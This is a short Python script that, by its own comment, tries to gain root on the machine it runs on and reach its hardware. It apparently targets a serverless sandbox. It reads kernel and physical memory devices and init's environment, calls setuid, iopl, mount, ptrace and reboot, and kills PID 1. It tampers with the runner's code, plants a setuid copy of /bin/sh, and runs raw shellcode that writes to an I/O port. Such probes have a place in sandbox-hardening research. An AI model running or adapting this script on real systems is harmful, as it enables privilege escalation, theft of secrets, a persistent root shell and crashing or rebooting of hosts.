# A program that tries to be the machine's root, and to reach its hardware.
import ctypes, mmap, os, stat

libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, act):
    try: print(name, act())
    except BaseException as error: print(name, type(error).__name__, error)
def call(name, *arguments):
    value = getattr(libc, name)(*arguments)
    return value if value >= 0 else os.strerror(ctypes.get_errno())
for path in ("/dev/mem", "/dev/port", "/dev/kmem", "/dev/kmsg", "/dev/snapshot", "/dev/hpet", "/dev/hwrng", "/dev/ttyS0", "/proc/kcore",
             "/proc/1/mem", "/proc/1/environ", "/proc/1/maps", "/proc/kallsyms", "/proc/sysrq-trigger", "/sys/kernel/vmcoreinfo", "/proc/kpageflags"):
    for mode in ("rb", "r+b"): attempt(f"{path} {mode}", lambda: open(path, mode, 0).read(64))
for name, arguments in {
    "setuid": (0,), "setgid": (0,), "setresuid": (0, 0, 0), "iopl": (3,), "ioperm": (0x505, 1, 1), "chroot": (b"/tmp",),
    "mount": (b"none", b"/tmp", b"tmpfs", 0, None), "umount": (b"/tmp",), "unshare": (0x10000000,), "reboot": (0x1234567,), "swapon": (b"/tmp/x", 0),
    "sethostname": (b"x", 1), "adjtimex": (ctypes.create_string_buffer(256),), "syslog": (3, None, 0), "acct": (b"/tmp/x",), "personality": (0x40000,),
    "prctl": (23, 21), "ptrace": (16, 1, 0, 0), "kill": (1, 9), "mlockall": (3,), "nice": (-5,),
}.items(): attempt(name, lambda: call(name, *arguments))
for number in (101, 135, 154, 163, 169, 172, 175, 246, 250, 272, 298, 304, 310, 313, 321, 323, 425, 428, 434, 442, 447):
    attempt(f"system call {number}", lambda: call("syscall", number, 0, 0, 0, 0, 0))
attempt("clock", lambda: __import__("time").clock_settime(0, 0))
attempt("device", lambda: os.mknod("/tmp/mem", 0o20666, os.makedev(1, 1)))
attempt("owner", lambda: os.chown("/tmp", 0, 0))
attempt("code", lambda: open("/faas/runner.py", "a"))
attempt("user", lambda: (open("/tmp/shell", "wb").write(open("/bin/sh", "rb").read()), os.chmod("/tmp/shell", 0o4755), os.stat("/tmp/shell").st_uid))
for folder in ("/bin", "/usr/bin", "/usr/sbin"):
    print(folder, sorted(name for name in os.listdir(folder) if os.stat(f"{folder}/{name}").st_mode & (stat.S_ISUID | stat.S_ISGID)))
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex("66ba0505b001eec3"))  # mov dx, 0x505; mov al, 1; out dx, al; ret
child = os.fork()
if child == 0: ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
print(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), os.getresuid(), os.getgroups(), open("/proc/self/status").read())
